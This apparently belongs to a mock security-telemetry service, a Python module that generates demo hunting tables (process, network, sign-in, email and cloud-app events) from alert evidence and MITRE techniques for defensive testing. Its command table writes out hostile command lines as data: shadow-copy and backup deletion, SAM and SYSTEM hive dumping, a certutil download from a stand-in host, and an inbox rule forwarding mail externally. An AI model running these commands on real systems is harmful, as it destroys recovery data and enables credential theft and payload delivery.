"""The telemetry of the demo tenant: what its alerts saw, and a month of plain work beside it.

It follows from the alerts of the state, their typed evidence and techniques, and from a day, at
which the plain work ends: the same every time.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from itertools import islice
from typing import Any

from mockgraph import work
from mockgraph.service.hunting import demo_noise
from mockgraph.service.hunting.demo_world import DemoDevice, DemoUser, Row, Tables, event
from mockgraph.service.hunting.entity_views import Entity, at
from mockgraph.service.hunting.kql.moments import read_datetime
from mockgraph.service.hunting.schema import ROW_STEPS

_MOST_ALERTS = 1000


def rows(alerts: Iterable[Entity], day: date) -> Tables:
    """Return the rows of each table: those of the alerts, and the plain work up to a day."""
    found: Tables = {}
    devices: dict[str, DemoDevice] = {}
    users: dict[str, DemoUser] = {}
    for alert in islice(alerts, _MOST_ALERTS):
        if _began(alert) is None:  # a test's own alert, which nothing is known of
            continue
        story = _Story.of(alert)
        devices |= {each.name: each for each in story.devices}
        users |= {each.principal: each for each in story.users}
        for table, row in story.rows():
            found.setdefault(table, []).append(row)
    end = datetime(day.year, day.month, day.day, tzinfo=UTC)
    noise = demo_noise.rows(list(devices.values()), list(users.values()), end)
    for table, row in work.current().on_each(noise, ROW_STEPS):
        found.setdefault(table, []).append(row)
    return found


def _began(alert: Entity) -> object:
    return alert.get("firstActivityDateTime") or alert.get("createdDateTime")


@dataclass
class _Story:
    """An alert, taken apart."""

    alert: Entity
    began: datetime
    devices: list[DemoDevice]
    users: list[DemoUser]
    techniques: list[str]

    @classmethod
    def of(cls, alert: Entity) -> _Story:
        evidence = list(alert.get("evidence") or ())
        devices = [DemoDevice.of(each) for each in evidence if _is(each, "deviceEvidence")]
        users = [
            DemoUser.of(each["userAccount"])
            for each in evidence
            if _is(each, "userEvidence") and each.get("userAccount")
        ]
        return cls(
            alert,
            read_datetime(str(_began(alert))),
            [each for each in devices if each.name],
            [each for each in users if each.principal],
            list(alert.get("mitreTechniques") or ()),
        )

    @property
    def device(self) -> DemoDevice:
        return self.devices[0] if self.devices else DemoDevice("", "", "", "Windows11")

    @property
    def user(self) -> DemoUser:
        return self.users[0] if self.users else DemoUser("system", "", "", "", "")

    def after(self, seconds: float) -> datetime:
        return self.began + timedelta(seconds=seconds)

    def rows(self) -> Iterator[tuple[str, Row]]:
        """Return what the sensors saw of it."""
        for place, each in enumerate(self.alert.get("evidence") or ()):
            for kind, told in _TOLD.items():
                if _is(each, kind):
                    yield from told(self, each, place)
        for technique in self.techniques:
            if told_of := _BY_TECHNIQUE.get(technique):
                yield from told_of(self)

    def on_device(self, seconds: float, action: str, **columns: Any) -> Row:
        return event(self.after(seconds), self.device, self.user, action, **columns)

    # What evidence tells

    def processes(self, each: Entity, _: int) -> Iterator[tuple[str, Row]]:
        created = each.get("processCreationDateTime")
        seconds = (read_datetime(created) - self.began).total_seconds() if created else 0
        row = self.on_device(
            seconds,
            "ProcessCreated",
            FileName=at(each, "imageFile/fileName"),
            FolderPath=_path(each.get("imageFile") or {}),
            SHA1=at(each, "imageFile/sha1"),
            SHA256=at(each, "imageFile/sha256"),
            ProcessId=each.get("processId"),
            ProcessCommandLine=each.get("processCommandLine"),
            ProcessVersionInfoOriginalFileName=at(each, "imageFile/fileName"),
            ProcessIntegrityLevel="High" if "T1003.001" in self.techniques else "Medium",
            InitiatingProcessFileName=at(each, "parentProcessImageFile/fileName"),
            InitiatingProcessId=each.get("parentProcessId"),
            InitiatingProcessCommandLine=at(each, "parentProcessImageFile/fileName"),
        )
        yield "DeviceProcessEvents", row

    def files(self, each: Entity, _: int) -> Iterator[tuple[str, Row]]:
        details = each.get("fileDetails") or {}
        name = str(details.get("fileName") or "")
        columns = {
            "FileName": name,
            "FolderPath": _path(details),
            "SHA1": details.get("sha1"),
            "SHA256": details.get("sha256"),
            "FileSize": details.get("fileSize"),
        }
        yield (
            "DeviceFileEvents",
            self.on_device(
                -120, "FileCreated", InitiatingProcessFileName="explorer.exe", **columns
            ),
        )
        if name.endswith(".dll"):
            columns.pop("FileSize")
            yield (
                "DeviceImageLoadEvents",
                self.on_device(
                    30, "ImageLoaded", InitiatingProcessFileName="rundll32.exe", **columns
                ),
            )

    def addresses(self, each: Entity, _: int) -> Iterator[tuple[str, Row]]:
        address = str(each.get("ipAddress") or "")
        if self.devices:
            times = 40 if self.alert.get("category") == "CommandAndControl" else 3
            for number in range(times):
                yield (
                    "DeviceNetworkEvents",
                    self.on_device(
                        60 * number,
                        "ConnectionSuccess",
                        RemoteIP=address,
                        RemoteIPType="Private" if address.startswith("10.") else "Public",
                        RemotePort=443,
                        LocalIP=self.device.address,
                        Protocol="Tcp",
                        InitiatingProcessFileName="svchost.exe",
                    ),
                )
        for user in self.users:
            yield "AADSignInEventsBeta", _sign_in(self.after(5), user, address, 0, each)

    def urls(self, each: Entity, _: int) -> Iterator[tuple[str, Row]]:
        url = str(each.get("url") or "")
        yield (
            "UrlClickEvents",
            {
                "Timestamp": self.began,
                "AccountUpn": self.user.principal,
                "ActionType": "ClickAllowed",
                "IsClickedThrough": True,
                "ThreatTypes": "Phish",
                "Url": url,
                "Workload": "Email",
                "NetworkMessageId": self._message_id(),
            },
        )
        yield (
            "DeviceNetworkEvents",
            self.on_device(
                2,
                "ConnectionSuccess",
                RemoteUrl=url,
                RemotePort=443,
                RemoteIPType="Public",
                InitiatingProcessFileName="msedge.exe",
            ),
        )

    def registry(self, each: Entity, _: int) -> Iterator[tuple[str, Row]]:
        hive = {"currentUser": "HKEY_CURRENT_USER", "localMachine": "HKEY_LOCAL_MACHINE"}
        key = hive.get(str(each.get("registryHive")), "HKEY_LOCAL_MACHINE")
        yield (
            "DeviceRegistryEvents",
            self.on_device(
                0,
                "RegistryValueSet",
                RegistryKey=f"{key}\\{each.get('registryKey')}",
                RegistryValueName=each.get("registryValueName"),
                RegistryValueData=each.get("registryValue"),
                RegistryValueType="String",
                InitiatingProcessFileName="powershell.exe",
            ),
        )

    def messages(self, each: Entity, place: int) -> Iterator[tuple[str, Row]]:
        message = {
            "Timestamp": each.get("receivedDateTime") or self.began,
            "NetworkMessageId": each.get("networkMessageId"),
            "RecipientEmailAddress": each.get("recipientEmailAddress"),
            "SenderFromAddress": at(each, "p2Sender/emailAddress"),
        }
        yield (
            "EmailEvents",
            message
            | {
                "Subject": each.get("subject"),
                "SenderFromDomain": at(each, "p2Sender/domainName"),
                "SenderDisplayName": at(each, "p2Sender/displayName"),
                "SenderMailFromAddress": at(each, "p1Sender/emailAddress"),
                "SenderIPv4": each.get("senderIp"),
                "InternetMessageId": each.get("internetMessageId"),
                "DeliveryAction": each.get("deliveryAction"),
                "DeliveryLocation": each.get("deliveryLocation"),
                "EmailDirection": "Inbound",
                "ThreatTypes": "Phish",
                "AuthenticationDetails": '{"SPF":"fail","DKIM":"none","DMARC":"fail"}',
                "UrlCount": 1,
                "AttachmentCount": 0,
                "ReportId": f"{each.get('networkMessageId')}-{place}",
            },
        )
        for url in each.get("urls") or ():
            yield (
                "EmailUrlInfo",
                {
                    "Timestamp": message["Timestamp"],
                    "NetworkMessageId": each.get("networkMessageId"),
                    "Url": url,
                },
            )

    def apps(self, each: Entity, _: int) -> Iterator[tuple[str, Row]]:
        many = {"Exfiltration", "Collection"}
        times = 60 if self.alert.get("category") in many else 2
        for number in range(times):
            yield (
                "CloudAppEvents",
                self._cloud(
                    number * 7,
                    "FileDownloaded" if times > 2 else "UserLoggedIn",
                    Application=each.get("displayName"),
                    ObjectName=f"Document {number + 1}.xlsx",
                ),
            )

    def mailboxes(self, _: Entity, __: int) -> Iterator[tuple[str, Row]]:
        if "T1114.003" in self.techniques:
            rule = [{"Name": "ForwardTo", "Value": "smtp:collector@mail.example"}]
        else:
            rule = [
                {"Name": "SubjectContainsWords", "Value": "invoice;payment"},
                {"Name": "DeleteMessage", "Value": "True"},
            ]
        yield (
            "CloudAppEvents",
            self._cloud(
                0,
                "New-InboxRule",
                Application="Microsoft Exchange Online",
                RawEventData={"Operation": "New-InboxRule", "Parameters": rule},
            ),
        )

    # What techniques tell besides

    def failures(self) -> Iterator[tuple[str, Row]]:
        addresses = [
            str(each.get("ipAddress"))
            for each in self.alert.get("evidence") or ()
            if _is(each, "ipEvidence")
        ] or ["198.51.100.140"]
        for number in range(120 if self.devices else 0):
            yield (
                "DeviceLogonEvents",
                self.on_device(
                    number * 5,
                    "LogonFailed",
                    LogonType="Network",
                    Protocol="ssh",
                    RemoteIP=addresses[number % len(addresses)],
                    AccountName="root",
                    FailureReason="InvalidUserNameOrPassword",
                    InitiatingProcessFileName="sshd",
                ),
            )
        if "T1078" in self.techniques and self.devices:
            yield (
                "DeviceLogonEvents",
                self.on_device(
                    700,
                    "LogonSuccess",
                    LogonType="Network",
                    Protocol="ssh",
                    RemoteIP=addresses[0],
                    InitiatingProcessFileName="sshd",
                ),
            )

    def spray(self) -> Iterator[tuple[str, Row]]:
        addresses = [
            str(each.get("ipAddress"))
            for each in self.alert.get("evidence") or ()
            if _is(each, "ipEvidence")
        ]
        for number in range(30):
            for user in self.users:
                for address in addresses[:2]:
                    moment = self.after(number * 20)
                    yield "AADSignInEventsBeta", _sign_in(moment, user, address, 50126, {})

    def commands(self) -> Iterator[tuple[str, Row]]:
        for number, command in enumerate(_COMMANDS.get(self._first(_COMMANDS), ())):
            name = command.partition(" ")[0]
            yield (
                "DeviceProcessEvents",
                self.on_device(
                    15 * number,
                    "ProcessCreated",
                    FileName=name,
                    ProcessCommandLine=command,
                    FolderPath=f"C:\\Windows\\System32\\{name}",
                    ProcessId=5000 + number,
                    ProcessVersionInfoOriginalFileName=name,
                    InitiatingProcessFileName="cmd.exe",
                    InitiatingProcessCommandLine="cmd.exe",
                ),
            )

    def directory(self) -> Iterator[tuple[str, Row]]:
        actions = {
            "T1003.006": ("IdentityDirectoryEvents", "Directory Services replication"),
            "T1558": ("IdentityLogonEvents", "LogonSuccess"),
            "T1087.002": ("IdentityQueryEvents", "LDAP query"),
            "T1135": ("IdentityQueryEvents", "SMB session"),
        }
        table, action = actions[self._first(actions)]
        target = self.devices[-1].name if self.devices else ""
        row = {
            "Timestamp": self.began,
            "ActionType": action,
            "AccountUpn": self.user.principal,
            "AccountName": self.user.name,
            "DeviceName": self.device.name,
            "IPAddress": self.device.address,
        }
        extra: dict[str, Row] = {
            "IdentityDirectoryEvents": {"DestinationDeviceName": target},
            "IdentityLogonEvents": {
                "Protocol": "Kerberos",
                "TargetDeviceName": target,
                "LogonType": "Network",
            },
            "IdentityQueryEvents": {
                "Query": "(&(objectCategory=user)(adminCount=1))",
                "QueryTarget": "Domain Admins",
            },
        }
        for number in range(20 if table == "IdentityQueryEvents" else 1):
            yield table, row | extra[table] | {"Timestamp": self.after(number)}

    def drives(self) -> Iterator[tuple[str, Row]]:
        yield (
            "DeviceEvents",
            self.on_device(
                0,
                "UsbDriveMounted",
                AdditionalFields={
                    "DriveLetter": "E:",
                    "ProductName": "Portable SSD",
                    "SerialNumber": "TW-0042",
                    "Manufacturer": "Kelpware",
                },
            ),
        )
        for number in range(25):
            name = f"SX40-{number:03}.dwg"
            yield (
                "DeviceFileEvents",
                self.on_device(
                    30 + number,
                    "FileCreated",
                    FileName=name,
                    FolderPath=f"E:\\SX40\\{name}",
                    FileSize=40_000_000 + number,
                    InitiatingProcessFileName="explorer.exe",
                ),
            )

    def services(self) -> Iterator[tuple[str, Row]]:
        yield (
            "DeviceEvents",
            self.on_device(
                0,
                "ServiceInstalled",
                FileName="svcrelay.exe",
                FolderPath="C:\\Windows\\Temp\\svcrelay.exe",
                AdditionalFields={"ServiceName": "SvcRelay", "ServiceAccount": "LocalSystem"},
            ),
        )
        yield (
            "DeviceLogonEvents",
            self.on_device(
                -20,
                "LogonSuccess",
                LogonType="Network",
                Protocol="NTLM",
                RemoteIP=self.devices[-1].address if self.devices else "",
            ),
        )

    def consent(self) -> Iterator[tuple[str, Row]]:
        modified = [
            {
                "Name": "ConsentAction.Permissions",
                "NewValue": "Scope: Mail.Read offline_access, CreatedDateTime: ,",
            }
        ]
        yield (
            "CloudAppEvents",
            self._cloud(
                0,
                "Consent to application.",
                Application="Microsoft 365",
                RawEventData={"UserId": self.user.principal, "ModifiedProperties": modified},
            ),
        )

    def _cloud(self, seconds: float, action: str, **columns: Any) -> Row:
        address = next(
            (
                each.get("ipAddress")
                for each in self.alert.get("evidence") or ()
                if _is(each, "ipEvidence")
            ),
            "192.0.2.10",
        )
        return {
            "Timestamp": self.after(seconds),
            "ActionType": action,
            "AccountObjectId": self.user.id,
            "AccountDisplayName": self.user.display,
            "IPAddress": address,
            **columns,
        }

    def _first(self, known: Mapping[str, Any]) -> str:
        return next((each for each in self.techniques if each in known), "")

    def _message_id(self) -> str:
        found = (each.get("networkMessageId") for each in self.alert.get("evidence") or ())
        return next((each for each in found if each), "")


def _is(evidence: Entity, kind: str) -> bool:
    return str(evidence.get("@odata.type", "")).endswith(f".{kind}")


def _path(file: Entity) -> str:
    """Return the whole path of a file of evidence."""
    folder, name = str(file.get("filePath") or ""), str(file.get("fileName") or "")
    if not folder:
        return name
    return f"{folder}{'/' if folder.startswith('/') else chr(92)}{name}"


def _sign_in(moment: datetime, user: DemoUser, address: str, code: int, evidence: Entity) -> Row:
    return {
        "Timestamp": moment,
        "AccountUpn": user.principal,
        "AccountObjectId": user.id,
        "AccountDisplayName": user.display,
        "IPAddress": address,
        "ErrorCode": code,
        "Country": evidence.get("countryLetterCode") or "NL",
        "Application": "Office 365 Exchange Online",
        "LogonType": '["interactiveUser"]',
        "UserAgent": "Mozilla/5.0 (X11; Linux x86_64)",
        "SessionId": f"session-{user.name}",
    }


_COMMANDS = {
    "T1490": (
        "vssadmin.exe delete shadows /all /quiet",
        "bcdedit.exe /set recoveryenabled no",
        "wbadmin.exe delete catalog -quiet",
        "net.exe stop BackupAgent",
        "net.exe stop VSS",
    ),
    "T1087.002": (
        "net.exe user /domain",
        'net.exe group "Domain Admins" /domain',
        "whoami.exe /all",
        "systeminfo.exe",
        "ipconfig.exe /all",
    ),
    "T1218.011": (
        "rundll32.exe C:\\Users\\greta.pohl\\AppData\\Roaming\\TideSync\\tidesync.dll,Start",
    ),
    "T1003.001": (
        "reg.exe save hklm\\sam C:\\ProgramData\\s.bin",
        "reg.exe save hklm\\system C:\\ProgramData\\y.bin",
    ),
    "T1204.002": ("certutil.exe -urlcache -f https://dl.slatepost.example/u.bin u.bin",),
}
_TOLD = {
    "processEvidence": _Story.processes,
    "fileEvidence": _Story.files,
    "ipEvidence": _Story.addresses,
    "urlEvidence": _Story.urls,
    "registryValueEvidence": _Story.registry,
    "analyzedMessageEvidence": _Story.messages,
    "cloudApplicationEvidence": _Story.apps,
    "mailboxEvidence": _Story.mailboxes,
}
_BY_TECHNIQUE = {
    "T1110.001": _Story.failures,
    "T1110.003": _Story.spray,
    "T1003.006": _Story.directory,
    "T1558": _Story.directory,
    "T1135": _Story.directory,
    "T1052.001": _Story.drives,
    "T1569.002": _Story.services,
    "T1528": _Story.consent,
    **dict.fromkeys(_COMMANDS, _Story.commands),
}
